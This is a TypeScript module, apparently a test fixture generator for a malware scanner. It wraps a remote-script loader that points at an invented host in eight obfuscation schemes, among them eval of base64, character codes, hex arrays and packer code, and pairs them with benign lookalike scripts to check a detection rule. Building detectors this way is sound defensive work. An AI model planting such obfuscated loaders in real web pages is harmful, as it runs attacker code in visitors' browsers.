// Scripts that hide what they load. The hidden code only names an invented host.
import type { Change, Injection, InjectionContext } from '../injection.ts';
import { afterDocument, atBodyEnd, beforeDocument, intoHead } from '../places.ts';

/** Harmless when run, and long enough to look like the real thing. */
const payload = ({ words, random }: InjectionContext): string => {
  const host = words.hostFor('cdn-stat');
  const padding = Array.from(
    { length: 90 },
    (_, i) => `var _0x${(i + 4096).toString(16)}=${random.between(1000, 99999)};`,
  ).join('');
  return `${padding}var s=document.createElement("script");s.src="https://${host}/l.js";document.head.appendChild(s);`;
};
const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hexEscapes = (text: string): string =>
  [...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const percents = (text: string): string =>
  [...text].map((letter) => `%${letter.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const codes = (text: string): string => [...text].map((letter) => letter.charCodeAt(0)).join(',');
const change = (
  name: string,
  put: (html: string, fragment: string) => string,
  code: (source: string) => string,
): Change => ({
  name,
  inject: (html, context) => put(html, `<script>${code(payload(context))}</script>`),
});

const variants: Change[] = [
  change('eval of base64', atBodyEnd, (source) => `eval(atob("${base64(source)}"));`),
  change('Function of base64', intoHead, (source) => `new Function(atob('${base64(source)}'))();`),
  change('eval of percent codes', atBodyEnd, (source) => `eval(unescape("${percents(source)}"));`),
  change(
    'character codes',
    atBodyEnd,
    (source) =>
      `var a=[${codes(source)}],b="";for(var i=0;i<a.length;i++)b+=String.fromCharCode(a[i]);eval(b);`,
  ),
  change(
    'hex array',
    intoHead,
    (source) =>
      `var _0x4f2a=["${hexEscapes(source)}","${hexEscapes('eval')}"];window[_0x4f2a[1]](_0x4f2a[0]);`,
  ),
  change(
    'document.write of percent codes',
    atBodyEnd,
    (source) => `document.write(unescape("${percents(`<script>${source}</script>`)}"));`,
  ),
  change('before the document', beforeDocument, (source) => `eval(String.fromCharCode(${codes(source)}));`),
  change(
    'after the document, packed',
    afterDocument,
    (source) =>
      `eval(function(p,a,c,k,e,d){while(c--)p=p.replace(new RegExp('\\\\b'+c.toString(a)+'\\\\b','g'),k[c]);return p}('${base64(source)}',36,2,'atob|document'.split('|'),0,{}));`,
  ),
];

const minified = Array.from(
  { length: 120 },
  (_, i) => `function f${i}(e,t){return e&&t?e[t]||(e[t]=${i}):void 0}`,
).join('');
const plain = (name: string, fragment: string): Change => ({
  name,
  inject: (html) => atBodyEnd(html, fragment),
});

const lookalikes: Change[] = [
  plain('minified bundle', `<script>!function(){"use strict";${minified}window.app={f0:f0}}();</script>`),
  plain(
    'image in base64',
    `<script>var icon="data:image/png;base64,${base64('icon '.repeat(500))}";document.body.dataset.icon=icon;</script>`,
  ),
  plain(
    'state of an application',
    `<script>window.__STATE__=JSON.parse(decodeURIComponent("${percents(JSON.stringify({ user: null, items: Array.from({ length: 40 }, (_, i) => i) }))}"));</script>`,
  ),
  plain(
    'tag manager',
    "<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i;f.parentNode.insertBefore(j,f)})(window,document,'script','dataLayer','GTM-XXXX');</script>",
  ),
  plain(
    'mail address against robots',
    `<script>document.write(String.fromCharCode(${codes('<a href="mailto:info@riverside.example">info</a>')}));</script>`,
  ),
  plain(
    'source map and modules',
    `<script type="module">import{a}from"/assets/a.js";a();${'const x=1;'.repeat(1)}//# sourceMappingURL=data:application/json;base64,${base64('{"version":3}')}</script>`,
  ),
  plain(
    'numbers of a chart',
    `<script>var points=[${Array.from({ length: 400 }, (_, i) => (i * 37) % 101).join(',')}];drawChart(points);function drawChart(p){document.body.dataset.points=p.length}</script>`,
  ),
];

export const obfuscatedLoader: Injection = {
  technique: 'obfuscated-loader',
  rules: ['sp_obfuscated_loader'],
  variants,
  lookalikes,
};
